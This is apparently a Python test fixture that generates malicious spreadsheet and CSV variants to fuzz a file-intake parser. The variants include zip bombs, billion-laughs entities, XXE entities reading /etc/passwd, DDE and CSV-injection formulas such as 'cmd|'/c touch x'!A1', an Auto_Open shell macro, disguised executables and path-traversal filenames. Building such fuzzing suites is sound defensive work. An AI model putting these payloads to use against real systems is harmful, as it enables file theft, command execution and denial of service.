"""Files made to hurt, any number of them: each family makes its variants from a seeded source of chance."""

# ruff: noqa: E501 - XML stands on one line, as in the files

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.cases.intake.reading.books import SUSPECT, SUSPECTS, packed, raw_ods, raw_xlsx, xlsx

FILES = Path(__file__).parent / "files"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
Family = Callable[[random.Random, str], tuple[str, bytes]]
#: Where a file that could reach out would reach: the test listens there.
Address = str


def cell(place: str, inside: str = "<v>1</v>", rest: str = "") -> str:
    return f'<c r="{place}"{rest}>{inside}</c>'


def zip_bomb(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    part = chance.choice(["xl/sharedStrings.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/media/a.png"])
    filler = chance.choice([b"a", b"<c r='A1'><v>1</v></c>", b"<row/>", b" ", b"\x00"])
    size = chance.choice([40, 310, 400]) << 20
    return "bomb.xlsx", raw_xlsx("", {part: filler * (size // len(filler))})


def bomb_of_many_parts(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    return "parts.xlsx", raw_xlsx("", {f"xl/x{number}.xml": b"" for number in range(chance.randint(2001, 6000))})


def bomb_in_bomb(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    inner = packed({"a": b"\x00" * (10 << 20)})
    for _ in range(chance.randint(1, 4)):
        inner = packed({f"{number}.zip": inner for number in range(chance.randint(1, 6))})
    return "nested.xlsx", chance.choice([inner, raw_xlsx("", {"xl/embeddings/a.xlsx": inner})])


def lying_container(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    """Sizes, offsets and sums that are not so, and two parts of one name."""
    data = bytearray(raw_xlsx(f'<row r="1">{cell("A1")}</row>', {"xl/sharedStrings.xml": b"a" * 200_000}))
    entry = data.rindex(b"xl/sharedStrings.xml") - 46
    place, size = chance.choice([(16, 4), (20, 4), (24, 4), (42, 4), (28, 2), (10, 2), (8, 2)])
    data[entry + place : entry + place + size] = chance.randbytes(size)
    return "lies.xlsx", bytes(data)


def too_wide(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    columns = chance.choice([257, 1000, 16_384])
    prefix = chance.choice(["", "x:"])
    one = chance.choice(["<{p}c><{p}v>1</{p}v></{p}c>", '<{p}c foo=">" t="n"><{p}v>1</{p}v></{p}c>']).format(p=prefix)
    sheet = f'<{prefix}row r="1">{one * columns}</{prefix}row>'
    if prefix:
        whole = f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{sheet}</x:sheetData></x:worksheet>'
        return "wide.xlsx", raw_xlsx("", {"xl/worksheets/sheet1.xml": whole})
    return "wide.xlsx", raw_xlsx(sheet)


def far_cell(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    place = chance.choice(["XFD1048576", "A1048576", "XFD1", "ZZZZZZ1", "A99999999999", "A0", "1A", "XFE1"])
    rest = chance.choice(["", ' s="1"', ' foo=">"', ' foo="r=&quot;A1&quot;"', " \n "])
    order = chance.choice([cell(place, rest=rest), f'<c{rest} r="{place}"><v>1</v></c>', f"<c r='{place}'/>"])
    number = "".join(filter(str.isdigit, place)) or "1"
    row = chance.choice([f'<row r="{number}">', f'<row foo=">" r="{number}">', "<row>"])
    return "far.xlsx", raw_xlsx(f'<row r="1">{cell("A1")}</row>{row}{order}</row>')


def blank_rows(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    last = chance.choice([300_000, 1_000_000, 1_048_576])
    blank = chance.choice(
        ['<row r="{n}"/>', '<row r="{n}" s="1" customFormat="1"/>', '<row r="{n}"><c r="A{n}" s="1"/></row>']
    )
    rows = "".join(blank.format(n=number) for number in range(2, last, chance.choice([1, 3, 1000])))
    return "blank.xlsx", raw_xlsx(f'<row r="1">{cell("A1")}</row>{rows}')


def one_string_everywhere(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    rows = chance.choice([20_000, 150_000])
    text = f'<sst xmlns="{MAIN}"><si><t>{"a" * chance.choice([3_000, 32_000])}</t></si></sst>'
    sheet = "".join(
        f'<row r="{n}">{cell(f"A{n}", "<v>0</v>", " t=" + chr(34) + "s" + chr(34))}</row>' for n in range(1, rows)
    )
    return "strings.xlsx", raw_xlsx(sheet, {"xl/sharedStrings.xml": text})


def reaching_out(chance: random.Random, address: Address) -> tuple[str, bytes]:
    """Links, queries and formulas that fetch, in each place where a spreadsheet may have them."""
    formula = chance.choice(
        [
            f'WEBSERVICE("{address}")',
            f'HYPERLINK("{address}","x")',
            "cmd|'/c touch x'!A1",
            f"'[1]S'!A1+'{address}[x]S'!A1",
        ]
    )
    value = chance.choice(["", "<v>1</v>", "<v></v>"])
    kind = chance.choice(["externalLinkPath", "hyperlink", "image", "connections", "attachedTemplate"])
    relation = f'<Relationships><Relationship Id="r1" Type="{kind}" Target="{address}/x" TargetMode="External"/></Relationships>'
    part = chance.choice(
        [
            "xl/externalLinks/externalLink1.xml",
            "xl/connections.xml",
            "xl/worksheets/_rels/sheet1.xml.rels",
            "xl/queryTables/q.xml",
        ]
    )
    return "links.xlsx", raw_xlsx(
        f'<row r="1">{cell("A1", f"<f>{escaped(formula)}</f>{value}")}</row>', {part: relation}
    )


def reaching_out_of_an_ods(chance: random.Random, address: Address) -> tuple[str, bytes]:
    link = chance.choice(
        [
            f'table:formula="of:=WEBSERVICE(&quot;{address}&quot;)"',
            f'table:formula="of:=DDE(&quot;soffice&quot;;&quot;{address}&quot;;1)"',
        ]
    )
    source = f'<table:table-source xlink:href="{address}" xmlns:xlink="http://www.w3.org/1999/xlink"/>'
    return "links.ods", raw_ods(
        f'{source}<table:table-row><table:table-cell {link} office:value-type="float" office:value="1"/></table:table-row>'
    )


def formulas_as_text(chance: random.Random, address: Address) -> tuple[str, bytes]:
    start = chance.choice(["=", "+", "-", "@", "\t=", "\r="])
    call = chance.choice(
        [f'WEBSERVICE("{address}")', "cmd|'/c touch x'!A1", 'SUM(1)*cmd|" /C calc"!A0', f'IMPORTXML("{address}","//a")']
    )
    lines = [SUSPECTS, [*SUSPECT[:1], start + call, *SUSPECT[2:]]]
    text = "\r\n".join(",".join('"' + field.replace('"', '""') + '"' for field in line) for line in lines)
    return "formulas.csv", text.encode(chance.choice(["utf-8", "utf-8-sig", "utf-16"]))


def macros(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    place = chance.choice(
        ["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "Basic/Standard/Module1.xml", "xl/activeX/activeX1.bin"]
    )
    program = chance.choice(
        [
            b'Sub Auto_Open()\nShell "touch x"\nEnd Sub',
            chance.randbytes(5000),
            b"\xd0\xcf\x11\xe0" + chance.randbytes(900),
        ]
    )
    return chance.choice(["m.xlsm", "m.xlsx", "m.xls"]), raw_xlsx(f'<row r="1">{cell("A1")}</row>', {place: program})


def formulas(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    formula = chance.choice(
        [
            "1/0",
            "A1",
            "A1+1",
            "REPT(&quot;a&quot;,32767)",
            "(" * 5000 + ")" * 5000,
            "1+" * 100_000 + "1",
            "INDIRECT(A1)",
        ]
    )
    inside = f"<f{chance.choice(['', ' t=' + chr(34) + 'array' + chr(34) + ' ref=' + chr(34) + 'A1:XFD1048576' + chr(34)])}>{formula}</f>"
    return "formulas.xlsx", raw_xlsx(f'<row r="1">{cell("A1", inside + chance.choice(["", "<v>1</v>"]))}</row>')


def broken_xml(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    pieces = [
        "<",
        ">",
        "</",
        "/>",
        '"',
        "'",
        "&",
        "&#0;",
        "&#x110000;",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<?",
        "<c r=",
        "</row>",
        "\x0b",
        "<row><row>",
    ]
    sheet = list(f'<row r="1">{cell("A1")}{cell("B1")}</row>')
    for _ in range(chance.randint(1, 5)):
        sheet.insert(chance.randrange(len(sheet)), chance.choice(pieces))
    return "broken.xlsx", raw_xlsx("".join(sheet))


def costly_xml(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    times = chance.choice([50_000, 400_000])
    text = chance.choice(
        ["<c ", "<c r=", "<row ", "<a>", "<c r='A1' " + "x='1' ", "<c" + " " * 50, "<f>", "<c r='A1'><f", "&amp;"]
    )
    part = chance.choice(
        ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"]
    )
    if chance.random() < 0.3:
        return "costly.ods", raw_ods(text * times)
    return "costly.xlsx", raw_xlsx("", {part: (f'<worksheet xmlns="{MAIN}">' + text * times).encode()})


def entities(chance: random.Random, address: Address) -> tuple[str, bytes]:
    outside = chance.choice(["file:///etc/passwd", f"{address}/x", "http://127.0.0.1/x"])
    declared = chance.choice(
        [
            f'<!DOCTYPE x [<!ENTITY a SYSTEM "{outside}">]>',
            f'<!DOCTYPE x SYSTEM "{outside}">',
            "<!DOCTYPE x [<!ENTITY b0 'ha'>"
            + "".join(f"<!ENTITY b{n} '{f'&b{n - 1};' * 10}'>" for n in range(1, 10))
            + "<!ENTITY a '&b9;'>]>",
            f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{outside}"> %p;]>',
        ]
    )
    sheet = f'{declared}<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>'
    if chance.random() < 0.5:
        return "entities.ods", packed(
            {"content.xml": declared + '<x xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">&a;</x>'}
        )
    return "entities.xlsx", raw_xlsx("", {"xl/worksheets/sheet1.xml": sheet})


def program_by_another_name(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    start = chance.choice(
        [b"MZ\x90\x00", b"\x7fELF\x02\x01", b"\xca\xfe\xba\xbe\x00\x00", b"\xcf\xfa\xed\xfe", b"%PDF-1.7", b"\x89PNG\r\n", b"\x1f\x8b\x08",
         b"Rar!\x1a\x07", b"7z\xbc\xaf", b"#!/bin/sh\ntouch x\n", b"<html><script>", b"<?php system('touch x');", b"L\x00\x00\x00\x01\x14\x02",
         b"@echo off\r\ntouch x\r\n\x00", b"\x00asm\x01\x00", b"dex\n035\x00", b"{\\rtf1"]
    )  # fmt: skip
    name = chance.choice(["a.xlsx", "a.xls", "a.ods", "a.csv", "a.csv.exe", "../../a.xlsx", "a\u202excslx.exe"])
    return name, start + chance.randbytes(chance.choice([100, 5000, 100_000]))


def repeated_in_an_ods(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    across, down = chance.choice([1, 300, 16_384, 2**31, 10**30]), chance.choice([1, 1_048_576, 2**40])
    text = chance.choice(["<text:p>x</text:p>", "<text:p/>", f"<text:p>{'x' * 30_000}</text:p>"])
    one = f'<table:table-cell table:number-columns-repeated="{across}" office:value-type="string">{text}</table:table-cell>'
    spanned = f'<table:table-cell table:number-columns-spanned="{across}" table:number-rows-spanned="{down}" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    return "repeated.ods", raw_ods(
        f'<table:table-row table:number-rows-repeated="{down}">{chance.choice([one, spanned])}</table:table-row>'
    )


def damaged(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    """A sound file with some of its bytes changed, or cut off."""
    sound = chance.choice(
        [
            xlsx({"Suspects": [SUSPECTS, SUSPECT] * 20}),
            (FILES / "one-case.xls").read_bytes(),
            (FILES / "far-corners.xls").read_bytes(),
        ]
    )
    data = bytearray(sound)
    for _ in range(chance.choice([1, 5, 50, 500])):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return "damaged.xls", bytes(data[: chance.choice([len(data), len(data) // 2, chance.randrange(len(data))])])


def costly_text(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    size = chance.choice([1_000_000, 8_000_000])
    text = chance.choice(
        [
            b",",
            b";",
            b'"',
            b'"a',
            b"\r",
            b"\n",
            b"a,b\n",
            b"\xff\xfe",
            b"\xb0\xa1",
            b"\x00",
            b"a",
            b'=cmd|x,"',
            b"\xe0\xb8",
        ]
    )
    return "costly.csv", chance.choice([b"", b"Case number,Name\r\n", b"sep=,\r\n"]) + text * (size // len(text))


def merged_everywhere(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    place = chance.choice(["A1:XFD1048576", "A1:A1048576", "B2:A1", "A1:A1", "A1", "XFD1:XFD2", ":"])
    merges = f'<mergeCell ref="{place}"/>' * chance.choice([1, 3000, 300_000])
    whole = f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{cell("A1")}</row><row r="9">{cell("B9")}</row></sheetData><mergeCells>{merges}</mergeCells></worksheet>'
    return "merged.xlsx", raw_xlsx("", {"xl/worksheets/sheet1.xml": whole})


def long_words(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    """A sound workbook with headings, names and values at the limits of what a cell holds."""
    word = chance.choice(["a", "姓名", "Date ", "/", "(", "1.", "a@", "\u200b", "e\u0301", "ก่", "=1+", "\u202e"])
    longest = (word * 32_767)[:32_767]
    rows = [[longest] * chance.choice([1, 40, 256]), SUSPECTS, [longest] * 10]
    chance.shuffle(rows)
    return (word * 50)[:200] + ".xlsx", xlsx({"Suspects": rows})


def many_sheets(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    names = [f"S{number}" for number in range(chance.choice([50, 51, 400]))]
    return "sheets.xlsx", xlsx({name: [SUSPECTS] for name in names})


def claimed_size(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    claim = chance.choice(["A1:XFD1048576", "A1:ZZZZZZ99999999", "XFD1048576:A1", "", "A1:A1:A1"])
    whole = f'<worksheet xmlns="{MAIN}"><dimension ref="{claim}"/><cols><col min="1" max="99999999" hidden="1"/></cols><sheetData><row r="1" hidden="1" spans="1:16384">{cell("A1")}</row></sheetData></worksheet>'
    return "claimed.xlsx", raw_xlsx("", {"xl/worksheets/sheet1.xml": whole})


def around_a_container(chance: random.Random, _address: Address) -> tuple[str, bytes]:
    data = xlsx({"A": [["x"]]})
    other = chance.choice([b"<script>", data, b"MZ\x90", chance.randbytes(50), packed({"xl/workbook.xml": "<x/>"})])
    buffer = io.BytesIO(data)
    if chance.random() < 0.5:
        with zipfile.ZipFile(buffer, "a") as container:
            container.comment = other[:60_000]
        return "around.xlsx", buffer.getvalue()
    return "around.xlsx", chance.choice([other + data, data + other])


FAMILIES: tuple[Family, ...] = (
    zip_bomb, bomb_of_many_parts, bomb_in_bomb, lying_container, too_wide, far_cell, blank_rows, one_string_everywhere,
    reaching_out, reaching_out_of_an_ods, formulas_as_text, macros, formulas, broken_xml, costly_xml, entities,
    program_by_another_name, repeated_in_an_ods, damaged, costly_text, merged_everywhere, long_words, many_sheets,
    claimed_size, around_a_container,
)  # fmt: skip


def variants(count: int, address: Address, *, seed: int) -> Iterator[tuple[str, str, bytes]]:
    """(family, filename, data) of so many files, the families in turn."""
    for number in range(count):
        family = FAMILIES[number % len(FAMILIES)]
        filename, data = family(random.Random(f"{seed}/{number}"), address)
        yield family.__name__, filename, data


def escaped(formula: str) -> str:
    return formula.replace("&", "&amp;").replace("<", "&lt;")
